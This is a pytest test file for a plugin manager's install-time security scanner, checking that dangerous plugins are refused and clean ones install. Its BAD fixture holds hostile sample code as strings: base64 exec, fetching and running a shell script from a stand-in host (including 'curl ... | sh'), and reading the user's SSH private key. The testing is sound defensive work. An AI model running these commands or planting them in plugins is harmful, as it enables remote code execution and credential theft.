"""Issue 36, finding 4: every fetched plugin tree is scanned before it is placed. Known-bad samples
are blocked (refused, exit 1, naming file, line and rule); every bundled and example plugin passes;
a caution asks as consent does (``--yes`` covers it); ``plugins.scan_on_install: false`` turns it off."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agent.cli import main
from pm.env.plugin_scan import scan_tree
from pm.testing.receipts import assert_valid_receipt

from .conftest import plugin

ROOT = Path(__file__).resolve().parents[3]

#: Known-bad plugin code: what each does, and the rule that must name it.
BAD = {
    "b64exec": ("import base64\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n", "B102", 2),
    "fetchrun": ("import os\nimport urllib.request\n"
                 "urllib.request.urlretrieve('http://example.invalid/x.sh', 'x.sh')\nos.system('sh x.sh')\n", "B605", 4),
    "sshkey": ("import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", "PM001", 2),
    "curlsh": ("import subprocess\nsubprocess.run('curl -s http://example.invalid/i.sh | sh', shell=True)\n", "B602", 2),
}


def latest(home: Path) -> dict:
    receipt = json.loads((home / "pm/receipts/latest.json").read_text())
    assert_valid_receipt(receipt)
    return receipt


@pytest.fixture
def home(env: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("HERMES_PM_ASSUME_YES", raising=False)
    home = env / "home"
    (home / "plugins").mkdir(parents=True)
    (home / "config.yaml").write_text("plugins:\n  enabled: []\n")
    return home


def _source(env: Path, name: str, code: str) -> Path:
    root = plugin(env / "sources", name, [])
    (root / "payload.py").write_text(code)
    return root


@pytest.mark.parametrize("name", sorted(BAD))
def test_a_known_bad_plugin_is_blocked_naming_file_line_and_rule(env: Path, home: Path, name: str,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    code, rule, line = BAD[name]
    source = _source(env, name, code)
    assert main(["plugins", "install", str(source), "--home", str(home), "--yes"]) == 1  # --yes does not cover it
    assert not (home / "plugins" / name).exists()
    receipt = latest(home)
    assert (receipt["outcome"], receipt["failure"]["kind"]) == ("refused", "dangerous-plugin")
    assert receipt["scan"]["verdict"] == "dangerous"
    assert {(f["file"], f["line"], f["rule"]) for f in receipt["scan"]["findings"] if f["verdict"] == "dangerous"} >= {
        ("payload.py", line, rule)}
    assert f"payload.py:{line}: {rule}" in capsys.readouterr().err


def _plugin_trees() -> list[Path]:
    bundled = sorted(p for p in (ROOT / "plugins" / "memory").iterdir() if p.is_dir())
    examples = sorted({p.parent for p in (ROOT / "scripts").glob("example-*/**/plugin.yaml")})
    return bundled + examples


@pytest.mark.parametrize("tree", _plugin_trees(), ids=lambda p: str(p.relative_to(ROOT)))
def test_every_bundled_and_example_plugin_is_clean(tree: Path) -> None:
    scan = scan_tree(tree)
    assert (scan.verdict, scan.findings) == ("clean", ()), [f.said() for f in scan.findings]
    assert scan.analyzer.startswith("bandit ")


def test_there_are_bundled_and_example_plugins_to_scan() -> None:
    trees = _plugin_trees()
    assert any("example-home" in str(t) for t in trees) and any("example-catalog" in str(t) for t in trees)
    assert len(trees) >= 10


def test_a_bundled_plugin_installs_with_a_clean_scan(home: Path) -> None:
    assert main(["plugins", "install", str(ROOT / "plugins" / "memory" / "sqlite_fts"), "--home", str(home)]) == 0
    assert latest(home)["scan"]["verdict"] == "clean"
    assert "consent" not in latest(home)


def test_a_caution_asks_as_consent_does(env: Path, home: Path) -> None:
    source = _source(env, "pickler", "import pickle\n\ndef load(blob):\n    return pickle.loads(blob)\n")
    assert main(["plugins", "install", str(source), "--home", str(home)]) == 3  # no terminal, no --yes
    assert not (home / "plugins" / "pickler").exists()
    receipt = latest(home)
    assert (receipt["failure"]["kind"], receipt["scan"]["verdict"]) == ("not-consented", "caution")
    assert receipt["next_steps"][0]["command"] == f"hermes plugins install {source} --yes --home {home}"
    assert main(["plugins", "install", str(source), "--home", str(home), "--yes"]) == 0
    receipt = latest(home)
    assert receipt["consent"]["given"] == "--yes"
    assert any("B301" in c for c in receipt["consent"]["cargo"]["cautions"])
    assert (home / "plugins" / "pickler" / "payload.py").is_file()


def test_scan_on_install_false_turns_it_off(env: Path, home: Path) -> None:
    (home / "config.yaml").write_text("plugins:\n  enabled: []\n  scan_on_install: false\n")
    source = _source(env, "b64exec", BAD["b64exec"][0])
    assert main(["plugins", "install", str(source), "--home", str(home)]) == 0
    assert latest(home)["scan"]["verdict"] == "off"


def test_scan_on_install_must_be_a_boolean(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / "config.yaml").write_text("plugins:\n  scan_on_install: nope\n")
    assert main(["plugins", "install", str(ROOT / "plugins" / "memory" / "sqlite_fts"), "--home", str(home)]) == 1
    assert "plugins.scan_on_install: must be true or false" in capsys.readouterr().err


def test_update_scans_the_provider_it_installs(env: Path, tmp_path: Path) -> None:
    """``hermes update`` installing a missing catalog provider scans it too: a dangerous one is not placed."""
    from .conftest import git
    from .test_update import catalog, home_with_provider

    repo = tmp_path / "repo"
    repo.mkdir()
    git("init", "--quiet", cwd=repo)
    root = plugin(repo / "providers", "honcho", [], kind="memory")
    (root / "payload.py").write_text(BAD["curlsh"][0])
    git("add", ".", cwd=repo)
    git("commit", "--quiet", "-m", "honcho", cwd=repo)
    home = home_with_provider(env, catalog(env, repo, git("rev-parse", "HEAD", cwd=repo)))
    assert main(["update", "--home", str(home), "--yes"]) == 1
    assert not (home / "plugins" / "honcho").exists()
    receipt = latest(home)
    assert (receipt["failure"]["kind"], receipt["scan"]["verdict"]) == ("dangerous-plugin", "dangerous")


def test_without_bandit_a_tree_is_a_caution_that_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    """The scan extra not installed: nothing passes unscanned (an import of bandit fails here)."""
    import sys

    for name in [m for m in sys.modules if m == "bandit" or m.startswith("bandit.")]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "bandit", None)
    scan = scan_tree(ROOT / "plugins" / "memory" / "sqlite_fts")
    assert (scan.verdict, scan.analyzer) == ("caution", "none")
    assert "bandit is not installed" in scan.findings[0].text
